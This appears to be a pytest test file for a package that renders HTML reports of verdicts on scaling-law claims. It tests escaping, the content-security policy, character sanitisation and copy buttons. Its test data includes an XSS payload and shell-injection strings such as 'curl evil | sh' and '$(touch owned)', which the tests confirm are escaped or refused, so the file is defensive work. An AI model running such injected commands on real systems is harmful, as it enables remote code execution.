"""The page as text: what is on it, what is escaped, what it weighs, what it tolerates."""

from __future__ import annotations

import json
import math
import re
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

import reports
from reports import figures
from reports.page import VERDICTS, page

HOSTILE = "<script>alert(1)</script>"
EMPTY = pd.DataFrame(columns=["id", "role", "series", "x", "y", "lo", "hi"])
Make = Callable[..., dict[str, Any]]


class Reader(HTMLParser):
    """Collects elements, ids and texts as a browser would tell them apart."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.blocks: dict[str, str] = {}
        self._block: str | None = None
        self._inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._inside = tag
        if tag == "script" and dict(attrs).get("type") == "application/json":
            self._block = str(dict(attrs)["id"])

    def handle_endtag(self, tag: str) -> None:
        self._inside, self._block = "", None

    def handle_data(self, data: str) -> None:
        if self._block:
            self.blocks[self._block] = self.blocks.get(self._block, "") + data
        elif self._inside not in ("script", "style"):
            self.texts.append(data)

    @property
    def ids(self) -> list[str]:
        return [str(attributes["id"]) for _, attributes in self.tags if "id" in attributes]

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())


@pytest.fixture
def read(report: Path) -> Reader:
    return Reader(report.read_text(encoding="utf-8"))


def test_the_package_loads_without_anything_that_simulates() -> None:
    program = "import sys, reports; print({n.split('.')[0] for n in sys.modules} & {'verifier', 'properties'})"
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"


def test_the_first_words_count_the_verdicts(read: Reader) -> None:
    assert "4 readings survived, 3 were falsified, 1 is undecided, 1 was left without a test and" in read.text
    assert "6 statements about scaling laws" in read.text


@pytest.mark.parametrize("verdict", sorted(VERDICTS))
def test_every_verdict_has_a_word_and_a_shape(report: Path, read: Reader, verdict: str) -> None:
    assert verdict in read.text
    assert f'<use href="#icon-{verdict.lower()}"/>' in report.read_text(encoding="utf-8")
    assert f"icon-{verdict.lower()}" in read.ids


def test_what_is_hostile_is_text(report: Path, read: Reader) -> None:
    scripts = [attributes for tag, attributes in read.tags if tag == "script"]
    assert {attributes["type"] for attributes in scripts} == {"application/json", "text/plain", "module"}
    assert sum(attributes["type"] != "application/json" for attributes in scripts) == 2
    assert not [tag for tag, _ in read.tags if tag in ("img", "iframe", "object", "link", "base")]
    assert not [name for _, attributes in read.tags for name in attributes if name.startswith("on")]
    assert read.text.count(HOSTILE) > 20
    assert HOSTILE not in report.read_text(encoding="utf-8")


def test_ids_are_plain_and_distinct_and_links_lead_somewhere(read: Reader) -> None:
    assert len(set(read.ids)) == len(read.ids)
    assert all(all(c.isascii() and (c.isalnum() or c == "-") for c in name) for name in read.ids)
    targets = {str(a["href"]) for tag, a in read.tags if tag in ("a", "use") and "href" in a}
    targets = {
        target for target in targets if not target.startswith(("statements/", "exhibits.csv"))
    }  # test_statements.py
    assert {target[1:] for target in targets if target.startswith("#")} == {t[1:] for t in targets} <= set(read.ids)


def test_nothing_is_asked_of_the_network(report: Path, read: Reader) -> None:
    assert not [a for _, a in read.tags if str(a.get("src", ""))]
    away = {str(a["href"]) for _, a in read.tags if str(a.get("href", "#"))[:1] != "#"}
    assert all(re.fullmatch(r"(statements/[A-Za-z0-9-]+\.html|exhibits\.csv)", address) for address in away)
    policy = next(str(a["content"]) for t, a in read.tags if a.get("http-equiv") == "Content-Security-Policy")
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert "unsafe-eval" not in policy


def test_every_chart_has_its_points(read: Reader) -> None:
    charts = [str(a["data-source"]) for _, a in read.tags if "data-source" in a]
    assert len(charts) == 12 + 8  # of instances, and of two figures drawn again
    for name in charts:
        figure = json.loads(read.blocks[name])
        assert figure["kind"] in json.loads(read.blocks["drawings"])
        assert all(len(row["x"]) == len(row["y"]) > (row["s"] not in "mn") for row in figure["rows"])


def test_the_matrix_unfolds_the_merged_readings(read: Reader) -> None:
    cells = [a for tag, a in read.tags if tag == "a" and "cell" in str(a.get("class", "")).split()]
    assert sum(a["title"] == "T1/s-above-1: FALSIFIED" for a in cells) == 12
    assert sum(a["title"] == "T1/tuned-two-sided: FALSIFIED" for a in cells) == 6
    assert {a["href"] for a in cells} <= {f"#{name}" for name in read.ids}
    assert "24 of 36 cells are judged" in read.text
    assert "a cell of another form: T1/odd-cells" in read.text


def test_statements_are_mathematics_or_else_words(read: Reader) -> None:
    assert any(tag == "math" for tag, _ in read.tags)
    assert "E(n) ~ n −α with α = 2s/(2s + 1/β)" in read.text  # A4, whose LaTeX is broken, and C1, which has none


def test_a_command_can_be_copied(report: Path, read: Reader) -> None:
    assert "verifier replay counterexamples/T1-s-above-1.minimal.json" in read.text
    copies = [a for tag, a in read.tags if tag == "button" and a.get("class") == "copy"]
    assert len(copies) == 6 + 1  # cards but the hostile one, and the command of the run


def test_stale_calibration_is_said_at_the_top_at_the_reading_and_beside_every_figure(read: Reader) -> None:
    assert "The calibration is stale." in read.text
    assert "STALE measured on other code than this. Measured on claims whose truth a theorem gives." in read.text
    figures = ("0.0009465", "0.9931", "not measured", "0", "1043", "0.025", "0.8333", "0")
    block = read.text[read.text.index("STALE measured on") :].partition("Evidence: ")[0]
    assert block.count("STALE") == 1 + len(figures) + 1  # the sentence, the figures, the fold
    for figure in figures:
        assert f" {figure} STALE " in block


def _calibrated(make_finding: Make, **facts: str) -> dict[str, Any]:
    return make_finding("L1/a", calibration={"stale": False, "text": "Measured.", **facts})


def test_calibration_is_a_table_of_rates_with_counts_and_intervals(make_run: Make, make_finding: Make) -> None:
    facts = {
        "size": "2 of 2113 = 0.0009465 [0.0001, 0.0034]",
        "power 0.05": "2108 of 2113 = 0.9976 [0.9945, 0.9992]",
        "searches: false alarms": "0 of 11 = 0 [0.0000, 0.2849]",
        "searches: judged": "1043",
        "simulation alone: power 0.1, where permitted": "49 of 50 = 0.98 [0.8935, 0.9995]",
    }
    text = Reader(page([_calibrated(make_finding, **facts)], make_run(stale=False), EMPTY)).text
    assert "size: a true claim called violated 0.0009465 2 of 2113 0.0001 to 0.0034" in text
    assert "power: an exponent wrong by 0.05 is noticed 0.9976 2108 of 2113 0.9945 to 0.9992" in text
    first, _, folded = text.partition("Also measured: searches, simulation alone")
    assert "whole searches with a false alarm 0 0 of 11 0.0000 to 0.2849" in first
    assert "searches judged 1043" in folded
    assert "an exponent wrong by 0.1 is noticed, where permitted 0.98 49 of 50 0.8935 to 0.9995" in folded


def test_a_current_calibration_is_neither_stale_nor_missing(make_run: Make, make_finding: Make) -> None:
    finding = _calibrated(make_finding, size="0 of 2000 = 0 [0.0000, 0.0018]")
    text = Reader(page([finding], make_run(stale=False), EMPTY)).text
    assert "STALE" not in text
    assert "stale" not in text.lower()
    assert "not measured yet" not in text


def test_without_a_table_calibration_is_not_measured(make_run: Make, make_finding: Make) -> None:
    text = Reader(page([make_finding("L1/a")], make_run(), EMPTY)).text
    assert "Calibration not measured yet for this code" in text
    assert "Calibration is not measured yet for this code." in text
    assert "95 % interval" not in text


def test_a_wrong_control_is_said_first(make_run: Make, make_finding: Make) -> None:
    run = make_run()
    run["controls"][1] |= {"verdict": "SURVIVED", "right": False}
    text = Reader(page([make_finding("L1/a")], run, EMPTY)).text
    banner = "1 control came out wrong. Claims whose truth is known were judged like all others, and control/"
    assert 0 < text.index(banner) < text.index("1 reading survived.")
    assert "came out right" not in text


def test_a_run_without_controls_says_so(make_run: Make, make_finding: Make) -> None:
    assert "No controls were run" in page([make_finding("L1/a")], make_run(controls=[]), EMPTY)


def test_a_verdict_that_differs_is_named(make_run: Make, make_finding: Make) -> None:
    findings = [make_finding("L1/a"), make_finding("L1/b", agrees=False, expected="FALSIFIED")]
    text = Reader(page(findings, make_run(), EMPTY)).text
    assert "1 of 2 verdicts that were expected came out otherwise: L1/b" in text


def test_nothing_found_is_a_page_too(tmp_path: Path, make_run: Make) -> None:
    path = reports.write_report(tmp_path, [], make_run(controls=[]), EMPTY)
    text = path.read_text(encoding="utf-8")
    assert "No reading was judged." in text
    assert len(text) < 60_000  # no chart, so no engine either


def test_a_record_with_nothing_in_it_is_a_page_too() -> None:
    text = Reader(page([{"id": "X1/bare", "verdict": "SURVIVED"}, {}], {}, EMPTY)).text
    assert "X1/bare" in text
    assert "1 reading survived and 1 ended in an error." in text


def test_a_verdict_from_the_future_is_shown_under_its_name(make_run: Make, make_finding: Make) -> None:
    text = Reader(page([make_finding("L1/a", "DOUBTED", agrees=None)], make_run(), EMPTY)).text
    assert "DOUBTED" in text
    assert "1 reading has an unknown verdict." in text


def test_numbers_that_are_none_and_points_that_are_none(
    make_run: Make, make_finding: Make, make_case: Make, make_points: Callable[..., pd.DataFrame]
) -> None:
    table = make_points("L1/a", "minimal").reset_index(drop=True)
    table.loc[table.index[:5], "y"] = [np.nan, np.inf, -1.0, 0.0, 1e-320]
    case = make_case("L1/a", "minimal", exponent=math.nan, tolerance=math.inf, witness={"n": math.nan})
    text = page([make_finding("L1/a", seconds=math.nan, minimal=case)], make_run(), table)
    blocks = Reader(text).blocks
    assert "r-L1-a-minimal-curve" in blocks
    for block in blocks.values():
        json.loads(block, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))


def test_a_lone_point_and_a_constant_curve_can_be_drawn(make_run: Make, make_finding: Make) -> None:
    rows = [("L1/a", "typical", "equivalent", 10.0, 2.0, None, None)]
    for series in ("equivalent", "local_slope"):
        rows += [("L1/b", "typical", series, x, 1e-12, None, None) for x in (1.0, 1e6)]
    table = pd.DataFrame(rows, columns=list(EMPTY.columns))
    blocks = Reader(page([make_finding("L1/a"), make_finding("L1/b")], make_run(), table)).blocks
    for name in ("r-L1-a-typical-curve", "r-L1-b-typical-curve", "r-L1-b-typical-slope"):
        signals = json.loads(blocks[name])["signals"]
        assert signals["x_min"] < signals["x_max"]
        assert signals["y_min"] < signals["y_max"]


def test_a_minimal_case_that_is_the_worst_is_shown_once(make_run: Make, make_finding: Make, make_case: Make) -> None:
    cases = {role: make_case("L1/a", role) for role in ("minimal", "worst")}
    text = Reader(page([make_finding("L1/a", "FALSIFIED", **cases)], make_run(), EMPTY)).text
    assert text.count("Minimal and worst counterexample") == 1
    assert "Worst counterexample" not in text


def test_what_a_transform_did_is_said_in_words(make_run: Make, make_finding: Make, make_case: Make) -> None:
    record = make_finding("T2/any", "FALSIFIED", minimal=make_case("T2/any", "minimal", why="T breaks <it> at beta"))
    text = page([record], make_run(), pd.DataFrame())
    assert "T breaks &lt;it&gt; at β." in text
    assert "T breaks" not in page([make_finding("T2/any", "FALSIFIED")], make_run(), pd.DataFrame())


def test_what_the_audit_leaves_null_is_left_out(make_run: Make, make_finding: Make, make_case: Make) -> None:
    case = make_case("L2/a", "typical", predicted=None, exponent=None, interval=None, certification=None)
    text = Reader(page([make_finding("L2/a", power=None, size=None, typical=case)], make_run(), EMPTY)).text
    assert "Power not stated" in text
    assert "Closest call" in text
    assert "Measured" not in text


def test_names_that_differ_in_signs_only_keep_separate_sections(make_run: Make, make_finding: Make) -> None:
    names = ["L1/a b", "L1/a_b", "L1/a-b", "L1/a-b", "L1/\u03b2", "L1/" + "x" * 200]
    ids = Reader(page([make_finding(name) for name in names], make_run(), EMPTY)).ids
    assert len(set(ids)) == len(ids)


def test_marks_that_reorder_a_line_are_taken_out(make_run: Make, make_finding: Make) -> None:
    text = page([make_finding("L1/a", title="abc\u202edef\x00\ud800")], make_run(), EMPTY)
    assert "abc\ufffddef" in text
    assert not set("\u202e\x00\ud800") & set(text)


@pytest.mark.thorough
def test_sixty_readings_stay_below_five_megabytes(
    tmp_path: Path,
    make_run: Make,
    make_finding: Make,
    make_case: Make,
    make_points: Callable[..., pd.DataFrame],
) -> None:
    roles = ("minimal", "worst", "typical")
    names = [f"T{i % 12}/reading-{i}" for i in range(60)]
    findings = [make_finding(n, "FALSIFIED", **{role: make_case(n, role) for role in roles}) for n in names]
    table = pd.concat([make_points(n, role, size=150) for n in names for role in roles], ignore_index=True)
    path = reports.write_report(tmp_path, findings, make_run(), table)
    assert path.stat().st_size < 5_000_000
    assert path.read_text(encoding="utf-8").count(figures.engine()) == 1
    whole = sum(file.stat().st_size for file in tmp_path.rglob("*.html"))
    assert whole < 15_000_000  # the report and twelve pages, each with the script of its charts


def test_a_run_directory_is_drawn_again(tmp_path: Path, records: Any) -> None:
    findings, run, table = records
    (tmp_path / "findings.json").write_text(json.dumps(findings), encoding="utf-8")
    (tmp_path / "run.json").write_text(json.dumps(run), encoding="utf-8")
    table.to_parquet(tmp_path / "evidence.parquet")
    first = reports.render(tmp_path)
    assert first == tmp_path / "report.html"
    text = first.read_text(encoding="utf-8")
    assert reports.render(tmp_path).read_text(encoding="utf-8") == text
    assert text == page(findings, run, table)
    assert {p.name for p in tmp_path.iterdir()} == {
        "evidence.parquet",
        "findings.json",
        "report.html",
        "run.json",
        "statements",
    }


def test_a_failed_write_leaves_the_old_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_run: Make) -> None:
    path = reports.write_report(tmp_path, [], make_run(), EMPTY)
    before = path.read_bytes()

    def fail(*_: object) -> None:
        raise OSError("the disk is full")

    monkeypatch.setattr("os.replace", fail)
    with pytest.raises(OSError, match="the disk is full"):
        reports.write_report(tmp_path, [{"id": "L1/a"}], make_run(), EMPTY)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_what_is_no_run_is_refused_by_name(tmp_path: Path, make_run: Make) -> None:
    with pytest.raises(ValueError, match=r"holds no readable findings\.json .*; give a finished run"):
        reports.render(tmp_path)
    (tmp_path / "findings.json").write_text("{}")
    with pytest.raises(ValueError, match=r"findings\.json holds a dict, expected a list"):
        reports.render(tmp_path)
    with pytest.raises(ValueError, match="lacks the columns"):
        reports.write_report(tmp_path, [], make_run(), pd.DataFrame({"id": ["L1/a"]}))


@pytest.mark.parametrize(
    ("command", "copied"),
    [
        ("verifier replay counterexamples/T1-s-above-1.minimal.json", True),
        ("verifier replay 'a b.json' --pack my_pack:CLAIMS", True),
        ("verifier replay x.json; curl evil | sh", False),
        ("verifier replay x.json && touch owned", False),
        ("verifier replay $(touch owned)", False),
        ("verifier replay x.json\ntouch owned", False),
        ("verifier replay 'x.json", False),
        ("curl evil", False),
        ("", False),
    ],
)
def test_only_a_call_of_verifier_is_offered_for_copying(
    make_finding: Make, make_case: Make, command: str, copied: bool
) -> None:
    minimal = make_case("T1/a", "minimal", replay=command)
    text = page([make_finding("T1/a", "FALSIFIED", minimal=minimal)], {"command": command}, EMPTY)
    buttons = [a for tag, a in Reader(text).tags if tag == "button" and a.get("class") == "copy"]
    assert [a["aria-label"] for a in buttons] == [f"Copy the command {command}"] * (2 * copied)
    assert " ".join(command.split()) in Reader(text).text
